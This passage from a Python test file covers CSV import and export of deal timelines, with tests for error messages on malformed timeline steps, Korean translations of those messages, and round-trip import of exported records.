        "2025-10 보도 [https://nowhere.example/x]",
        "no source has the URL or slug “https://nowhere.example/x”",
    ),
    "empty brackets": ("2025-10 reported [ ]", "the brackets name no source"),
    "an open bracket": ("2025-10 reported [src-1", "write the date"),
    "brackets only": ("2025-10 [src-1]", "write the date"),
}


@pytest.mark.parametrize("case", BAD_TIMELINES)
def test_a_bad_timeline_step_is_named_and_nothing_is_written(editor_client, companies, case):
    step, words = BAD_TIMELINES[case]
    before = _counts()
    row = f"Bad,나쁜 행,nvidia,sk-group,,2025-01 rumored; {step},,"
    preview = _preview(editor_client, "deal", "bad.csv", _timeline_csv(row))
    [problem] = _problems(preview)
    assert problem.startswith("Row 2, column “timeline”:"), problem
    assert f"“{step}”" in problem and words in problem, problem
    assert "2025-01 rumored" not in problem  # the good step is not reported
    assert preview.context.get("confirm_form") is None
    assert _counts() == before


def test_timeline_problems_read_in_korean(companies):
    dataset = spreadsheets.CSV().create_dataset(
        _timeline_csv("Bad,나쁜 행,nvidia,sk-group,,2025-02-30 서명,,")
    )
    with translation.override("ko"):
        result = resources.DealResource().import_data(dataset, dry_run=True, file_name="x.csv")
        [problem] = resources.import_problems(result)
    assert problem.startswith("2행, “timeline” 열:"), problem
    assert "“2025-02-30 서명”" in problem
    assert "there is no such date" not in problem  # translated


def test_an_exported_timeline_imports_back_step_for_step(editor_client, korean_deal):
    wire = factories.SourceFactory(slug="yonhap-wire", url="")
    services.deal_record_event(
        deal=korean_deal,
        date=dt.date(2024, 1, 1),
        status="rumored",
        date_precision="year",
        source=wire,
    )
    services.deal_record_event(
        deal=korean_deal, date=dt.date(2025, 4, 1), status="reported", date_precision="quarter"
    )
    text = _export(editor_client, "Deal", 0).content.decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["timeline"].startswith("2024 rumored [yonhap-wire]; 2025-Q2 reported; "), row[
        "timeline"
    ]
    copy = _export_and_import_a_copy(editor_client, "apec-blackwell")

    # A step with no source of its own takes the row's first source, as on any import.
    first = korean_deal.sources.all()[0].pk  # in the order the export writes them

    def steps(deal, unsourced=None):
        return [
            (e.date, e.date_precision, e.status, e.source_id or unsourced)
            for e in deal.events.all()
        ]

    assert steps(copy) == steps(korean_deal, unsourced=first)
    assert steps(copy)[0][3] == wire.pk
